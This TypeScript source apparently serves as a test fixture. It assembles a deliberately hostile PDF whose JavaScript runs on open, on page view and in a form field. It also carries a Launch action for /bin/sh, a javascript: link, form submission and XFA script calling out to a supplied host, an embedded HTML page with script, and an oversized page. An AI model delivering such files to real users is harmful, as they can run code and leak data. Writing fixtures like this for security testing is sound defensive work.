/**
 * Returns a PDF with everything hostile that a PDF can contain. Scripts run when it is opened, when its page is shown
 * and in a form. Links run or launch something, or fetch an address. It also has an XFA form, an embedded page, and a
 * page of the largest possible size.
 */
export function hostilePdf(line: string, stranger: string): Uint8Array {
  const script = `app.alert\\(1\\); app.launchURL\\("${stranger}/script"\\);`;
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>xfa.host.gotoURL("${stranger}/xfa")</script></template></xdp:xdp>`;
  const page = `<script>globalThis.hacked = 9</script><img src="${stranger}/embedded">`;
  const text = `BT /F1 12 Tf 72 14300 Td (${line}) Tj ET`;
  const stream = (content: string, entries = ""): string =>
    `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const action = (kind: string, rest: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 14400 14400] /Border [0 0 0] /A << /S /${kind} ${rest} >> >>`;
  return assemble([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script}) >> /AA << /WC << /S /JavaScript /JS (${script}) >> >> ` +
      "/Names << /JavaScript << /Names [(run) 12 0 R] >> /EmbeddedFiles << /Names [(page.html) 13 0 R] >> >> " +
      "/AcroForm << /Fields [11 0 R] /XFA 14 0 R /NeedAppearances true >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> " +
      `/AA << /O << /S /JavaScript /JS (${script}) >> >> /Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R 11 0 R] >>`,
    stream(text),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    action("URI", `/URI (${stranger}/link)`),
    action("URI", "/URI (javascript:globalThis.hacked=8)"),
    action("Launch", "/F (/bin/sh)"),
    action("JavaScript", `/JS (${script})`),
    action("SubmitForm", `/F << /FS /URL /F (${stranger}/form) >>`),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (typed) /Rect [72 14200 300 14220] /AA << /K << /S /JavaScript /JS (${script}) >> >> >>`,
    `<< /S /JavaScript /JS (${script}) >>`,
    "<< /Type /Filespec /F (page.html) /EF << /F 15 0 R >> >>",
    stream(xfa),
    stream(page, "/Type /EmbeddedFile /Subtype /text#2Fhtml"),
  ]);
}

function assemble(objects: readonly string[]): Uint8Array {
  let file = "%PDF-1.7\n";
  const offsets = objects.map((object, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = file.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`);
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows.join("")}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return new TextEncoder().encode(file);
}
